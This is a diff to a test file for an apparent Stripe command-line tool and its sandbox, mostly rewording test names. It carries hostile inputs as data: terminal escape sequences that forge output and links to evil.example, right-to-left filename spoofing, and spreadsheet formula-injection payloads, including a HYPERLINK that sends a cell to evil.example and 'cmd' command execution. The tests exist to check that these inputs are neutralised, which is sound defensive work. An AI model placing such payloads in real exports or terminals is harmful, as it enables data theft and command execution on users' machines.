@@ -63,8 +63,8 @@ const ESCAPES: [label: string, value: string, shown: string][] = [
   ['clear screen, title, colour and a fake row', '\u001b[2J\u001b]0;pwned\u0007\u001b[31mRED\nFAKE: Payment succeeded', '\\e[2J\\e]0;pwned\\x07\\e[31mRED\\nFAKE: Payment succeeded'],
   ['an OSC 8 hyperlink', '\u001b]8;;http://evil.example\u001b\\Refund\u001b]8;;\u001b\\', '\\e]8;;http://evil.example\\e\\Refund\\e]8;;\\e\\'],
   ['a carriage return that overwrites the line', 'Jenny\rPAID IN FULL', 'Jenny\\rPAID IN FULL'],
-  ['terminal reset (ESC c)', 'x\u001bcy', 'x\\ecy'],
-  ['an 8-bit CSI (C1)', 'a\u009b2Jb', 'a\\x9b2Jb'],
+  ['terminal reset, ESC c', 'x\u001bcy', 'x\\ecy'],
+  ['an 8-bit CSI, a C1 control', 'a\u009b2Jb', 'a\\x9b2Jb'],
   ['a right-to-left override', 'invoice\u202egpj.exe', 'invoice\\u202egpj.exe'],
   ['backspaces that hide text', 'refund\b\b\b\b\b\bcharge', 'refund\\b\\b\\b\\b\\b\\bcharge'],
   ['a NUL and a tab', 'a\u0000b\tc', 'a\\0b\\tc'],
@@ -99,7 +99,7 @@ describe('terminal escapes in payments and metadata', () => {
     }
   });
 
-  it('events get shows the event object as JSON would spell it (\\u001b), not a doubled \\\\e', async () => {
+  it('events get shows the event object as JSON would spell it, ESC as u001b, not a doubled e', async () => {
     const cus = await stripe.customers.create({ name: 'evt\u001b[2Jname\u009b31m\u202eR' });
     const event = (await stripe.events.list({ type: 'customer.created', limit: 100 })).data.find((e) => (e.data.object as { id: string }).id === cus.id)!;
     const r = await fc(['events', 'get', event.id]);
@@ -115,7 +115,7 @@ describe('terminal escapes in payments and metadata', () => {
     ['a bell in a value', 'note=\u0007'],
     ['a bidi override in a key', 'a\u202eb=v'],
     ['a C1 control in a value', 'note=\u009b2J'],
-  ])('customers create --metadata with %s is refused (exit 2), nothing sent', async (_label, pair) => {
+  ])('customers create --metadata with %s is refused with exit 2, nothing sent', async (_label, pair) => {
     const before = sandbox.store.requestLog().length;
     const r = await fc(['customers', 'create', '--email', 'meta@example.com', '--metadata', pair]);
     expect(r.code).toBe(2);
@@ -189,17 +189,18 @@ describe('a server that never answers', () => {
 
 // ---- spreadsheet formulas ---------------------------------------------------------------------
 
-const FORMULAS = [
-  '=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '+1+cmd|" /C calc"!A0',
-  '-2+3+cmd|" /C calc"!A0',
-  '\t=1+1',
-  '\r=1+1',
+// Labelled: the formulas themselves, in a test's name, would not select it with vitest -t (a regex).
+const FORMULAS: [label: string, formula: string][] = [
+  ['a HYPERLINK that sends a cell away', '=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")'],
+  ['an @SUM that runs a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ['a plus sign that runs a command', '+1+cmd|" /C calc"!A0'],
+  ['a minus sign that runs a command', '-2+3+cmd|" /C calc"!A0'],
+  ['a tab before a formula', '\t=1+1'],
+  ['a carriage return before a formula', '\r=1+1'],
 ];
 
 describe('CSV cells that a spreadsheet would run are neutralised', () => {
-  it.each(FORMULAS)('payments list --format csv: description %j opens as text starting with a quote', async (formula) => {
+  it.each(FORMULAS)('payments list --format csv: a description with %s opens as text starting with a quote', async (_label, formula) => {
     const pi = await stripe.paymentIntents.create({ amount: 78581, currency: 'usd', description: formula });
     const r = await fc(['payments', 'list', '--limit', '100', '--format', 'csv']);
     expect(r.code, r.stderr).toBe(0);
@@ -265,7 +266,7 @@ describe('no silent fallback to the sandbox', () => {
     ['not JSON', '{"profiles": {"a": 1}x'],
     ['a JSON array', '[]'],
     ['profiles that are not objects', '{"profiles": {"a": 1}}'],
-  ])('a corrupt config.json (%s) is one line naming the file, exit 2', async (_label, text) => {
+  ])('a corrupt config.json, %s, is one line naming the file, exit 2', async (_label, text) => {
     const dir = mkdtempSync(join(tmpdir(), 'fc-badconfig-'));
     writeFileSync(join(dir, 'config.json'), text);
     const { main } = await import('../../src/cli.js');
@@ -304,22 +305,22 @@ const basic = (user: string) => `Basic ${Buffer.from(`${user}:`).toString('base6
 
 describe('the sandbox answers bad input with Stripe error objects, never 500', () => {
   it.each<[string, () => Promise<Answer>, number]>([
-    ['a publishable key of 11 characters (pk_test_abc)', () => send('/v1/customers', { headers: { authorization: basic('pk_test_abc') } }), 401],
+    ['a publishable key of 11 characters, pk_test_abc', () => send('/v1/customers', { headers: { authorization: basic('pk_test_abc') } }), 401],
     ['a 9-character key without a prefix', () => send('/v1/customers', { headers: { authorization: basic('abcdefghi') } }), 401],
-    ['a key that is only a prefix (sk_test_)', () => send('/v1/customers', { headers: { authorization: basic('sk_test_') } }), 401],
+    ['a key that is only a prefix, sk_test_', () => send('/v1/customers', { headers: { authorization: basic('sk_test_') } }), 401],
     ['an empty Bearer', () => send('/v1/customers', { headers: { authorization: 'Bearer ' } }), 401],
     ['Basic auth that is not base64', () => send('/v1/customers', { headers: { authorization: 'Basic %%%' } }), 401],
     ['a key with a space in it', () => send('/v1/customers', { headers: { authorization: basic('sk_test_ab cd') } }), 401],
     ['a live key', () => send('/v1/customers', { headers: { authorization: 'Bearer sk_live_abcdefghijkl' } }), 401],
     ['malformed percent-encoding in the path', () => send('/v1/customers/cus_%E0%A4%A'), 400],
     ['a lone % in the path', () => send('/v1/customers/%'), 400],
-    ['malformed percent-encoding in a form body (kept as text it would corrupt the name)', () => send('/v1/customers', { body: 'name=%E0%A4%A' }), 400],
+    ['malformed percent-encoding in a form body, which kept as text would corrupt the name', () => send('/v1/customers', { body: 'name=%E0%A4%A' }), 400],
     ['a percent-encoded byte that is not UTF-8 in a form body', () => send('/v1/customers', { body: 'description=%9B31m' }), 400],
     ['malformed percent-encoding in the query string', () => send('/v1/customers?email=%E0%A4%A'), 400],
     ['a v2 body that is null', () => send('/v2/core/accounts', { body: 'null', headers: { 'content-type': 'application/json' } }), 400],
     ['a v2 body that is an array', () => send('/v2/core/accounts', { body: '[1,2]', headers: { 'content-type': 'application/json' } }), 400],
     ['a v2 body that is a string', () => send('/v2/core/accounts', { body: '"x"', headers: { 'content-type': 'application/json' } }), 400],
-    ['a v2 field of the wrong type (display_name: 5)', () => send('/v2/core/accounts', { body: '{"display_name":5}', headers: { 'content-type': 'application/json' } }), 400],
+    ['a v2 field of the wrong type, display_name: 5', () => send('/v2/core/accounts', { body: '{"display_name":5}', headers: { 'content-type': 'application/json' } }), 400],
     ['v2 metadata that is not an object', () => send('/v2/core/accounts', { body: '{"metadata":"x"}', headers: { 'content-type': 'application/json' } }), 400],
     ['a v2 metadata value that is not a string', () => send('/v2/core/accounts', { body: '{"metadata":{"a":{"b":1}}}', headers: { 'content-type': 'application/json' } }), 400],
     ['a v2 body that is not JSON', () => send('/v2/core/accounts', { body: '{"a":', headers: { 'content-type': 'application/json' } }), 400],
@@ -330,7 +331,7 @@ describe('the sandbox answers bad input with Stripe error objects, never 500', (
     ['deeply nested brackets', () => send('/v1/customers', { body: `metadata${'[a]'.repeat(50)}=1` }), 400],
     ['metadata given as a nested hash', () => send('/v1/customers', { body: 'metadata[a][b]=1' }), 400],
     ['a metadata value over 500 characters', () => send('/v1/customers', { body: `metadata[a]=${'x'.repeat(501)}` }), 400],
-  ])('%s', async (_label, request, status) => {
+  ])('%s gets a Stripe error object', async (_label, request, status) => {
     const r = await request();
     expect(r.status).toBe(status);
     expect(r.body.error?.type).toMatch(/^(invalid_request_error|authentication_error)$/);
